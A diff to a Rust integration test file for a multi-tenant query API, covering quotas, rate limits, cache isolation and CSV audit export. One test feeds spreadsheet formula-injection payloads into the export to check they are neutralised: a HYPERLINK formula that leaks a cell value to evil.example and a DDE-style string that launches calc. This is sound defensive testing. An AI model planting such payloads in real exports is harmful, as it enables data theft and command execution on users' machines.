@@ -80,7 +80,7 @@ async fn bad_questions_get_400() {
 }
 
 #[tokio::test]
-async fn quotas_give_429_with_retry_after_and_cache_hits_are_free() {
+async fn quotas_give_429_with_retry_after_and_cache_hits_count_too() {
     let s = TestServer::with_config(AppConfig {
         quotas: Quotas {
             free_daily: Some(3),
@@ -91,7 +91,7 @@ async fn quotas_give_429_with_retry_after_and_cache_hits_are_free() {
     });
     // globex is on the free tier.
     let token = s.token("globex", Privacy::Standard);
-    for q in ["total revenue", "revenue by month", "what is the weather"] {
+    for q in ["total revenue", "revenue by month", "total revenue"] {
         let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
         assert_eq!(r.status, StatusCode::OK, "{}", r.text());
     }
@@ -109,11 +109,26 @@ async fn quotas_give_429_with_retry_after_and_cache_hits_are_free() {
         .expect("seconds");
     assert!(retry > 0 && retry <= 86_400);
     assert_eq!(r.json()["error"]["retry_after"].as_u64(), Some(retry));
-    // A cached answer is still served.
-    let r = s
-        .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
-        .await;
-    assert_eq!(r.status, StatusCode::OK);
+    // A cached answer is past the quota too, and refusals write no audit rows.
+    for _ in 0..20 {
+        let r = s
+            .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
+            .await;
+        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
+    }
+    let rows: i64 = s
+        .sql()
+        .query_row(
+            "SELECT COUNT(*) FROM audit WHERE tenant = 'globex'",
+            [],
+            |r| r.get(0),
+        )
+        .expect("count");
+    assert_eq!(rows, 3);
+    let admin = s.keys().admin_key.clone();
+    let usage = s.get("/api/v1/admin/usage", Some(&admin)).await.json();
+    assert_eq!(usage["globex"]["quota_rejections"], 21);
+    assert_eq!(usage["globex"]["cache_hits"], 1);
     // Another tenant is not affected (acme: enterprise, unlimited).
     let acme = s.token("acme", Privacy::Standard);
     let r = s
@@ -146,7 +161,13 @@ async fn the_burst_limit_applies_to_every_tier() {
         .post("/api/v1/ask", Some(&token), ask_body("question 3"))
         .await;
     assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
-    assert_eq!(r.header("retry-after"), Some("60"));
+    // The limit is per clock minute: retry when this one ends.
+    let retry: u64 = r
+        .header("retry-after")
+        .expect("retry-after")
+        .parse()
+        .expect("seconds");
+    assert!((1..=60).contains(&retry), "{retry}");
 }
 
 #[tokio::test]
@@ -263,4 +284,137 @@ async fn an_answer_says_its_date_its_context_and_its_compared_periods() {
     .await;
     assert_eq!(e.status, AskStatus::Answered);
     assert_eq!(e.follows, None);
+}
+
+#[tokio::test]
+async fn audit_csv_cells_never_start_a_formula() {
+    let s = TestServer::new();
+    let token = s.token("acme", Privacy::Standard);
+    let questions = [
+        r#"=HYPERLINK("https://evil.example/?"&A1,"total revenue")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd",
+        "\t=1",
+    ];
+    for q in questions {
+        let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
+        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    }
+    let admin = s.keys().admin_key.clone();
+    let csv = s
+        .get("/api/v1/admin/audit?format=csv&tenant=acme", Some(&admin))
+        .await
+        .text();
+    for q in questions {
+        let plain = format!(",'{q},");
+        let quoted = format!(",\"'{}\",", q.replace('"', "\"\""));
+        assert!(
+            csv.contains(&plain) || csv.contains(&quoted),
+            "{q:?} not neutralised in:\n{csv}"
+        );
+    }
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {line}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn feedback_is_rate_limited_per_user() {
+    let s = TestServer::with_config(AppConfig {
+        quotas: Quotas {
+            feedback_per_minute: 1_000,
+            feedback_daily: Some(3),
+            ..Quotas::default()
+        },
+        ..AppConfig::default()
+    });
+    let token = s.token("acme", Privacy::Standard);
+    let r = s
+        .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
+        .await;
+    let id = r.json()["id"].as_str().expect("id").to_string();
+    let body = serde_json::json!({"answer_id": id, "helpful": true}).to_string();
+    for _ in 0..3 {
+        let r = s.post("/api/v1/feedback", Some(&token), body.clone()).await;
+        assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
+    }
+    let r = s.post("/api/v1/feedback", Some(&token), body.clone()).await;
+    assert_eq!(
+        (r.status, r.code().as_str()),
+        (StatusCode::TOO_MANY_REQUESTS, "quota_exceeded")
+    );
+    assert!(r.header("retry-after").is_some());
+    // A colleague in the same tenant still has their own allowance.
+    let colleague = slicewise_server::token::mint(
+        &s.keys().embed_secret,
+        "acme",
+        "user-2",
+        Privacy::Standard,
+        600,
+        chrono::Utc::now().timestamp(),
+    )
+    .expect("mint")
+    .0;
+    let r = s.post("/api/v1/feedback", Some(&colleague), body).await;
+    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
+    let n: i64 = s
+        .sql()
+        .query_row("SELECT COUNT(*) FROM feedback", [], |r| r.get(0))
+        .expect("count");
+    assert_eq!(n, 4);
+}
+
+fn token_for(s: &TestServer, sub: &str, privacy: Privacy) -> String {
+    slicewise_server::token::mint(
+        &s.keys().embed_secret,
+        "acme",
+        sub,
+        privacy,
+        600,
+        chrono::Utc::now().timestamp(),
+    )
+    .expect("mint")
+    .0
+}
+
+async fn cached(s: &TestServer, token: &str, body: serde_json::Value) -> bool {
+    let r = s.post("/api/v1/ask", Some(token), body.to_string()).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    r.json()["cached"].as_bool().expect("cached")
+}
+
+#[tokio::test]
+async fn the_answer_cache_is_per_user_and_privacy_level() {
+    let s = TestServer::new();
+    let q = serde_json::json!({ "question": "total revenue" });
+    let alice = token_for(&s, "alice", Privacy::Standard);
+    assert!(!cached(&s, &alice, q.clone()).await);
+    assert!(cached(&s, &alice, q.clone()).await);
+    // A colleague asking the same learns nothing from `cached`.
+    let bob = token_for(&s, "bob", Privacy::Standard);
+    assert!(!cached(&s, &bob, q.clone()).await);
+    // Nor does the same user at another privacy level.
+    let alice_high = token_for(&s, "alice", Privacy::High);
+    assert!(!cached(&s, &alice_high, q).await);
+}
+
+#[tokio::test]
+async fn a_separator_in_a_question_never_joins_two_cache_keys() {
+    let s = TestServer::new();
+    let token = token_for(&s, "alice", Privacy::Standard);
+    // Joined with NUL, these two were one cache key.
+    let first = serde_json::json!({
+        "question": "total revenue",
+        "previous_question": "revenue by month\u{0}"
+    });
+    let second = serde_json::json!({ "question": "total revenue\u{0}revenue by month" });
+    assert!(!cached(&s, &token, first).await);
+    assert!(!cached(&s, &token, second).await);
 }
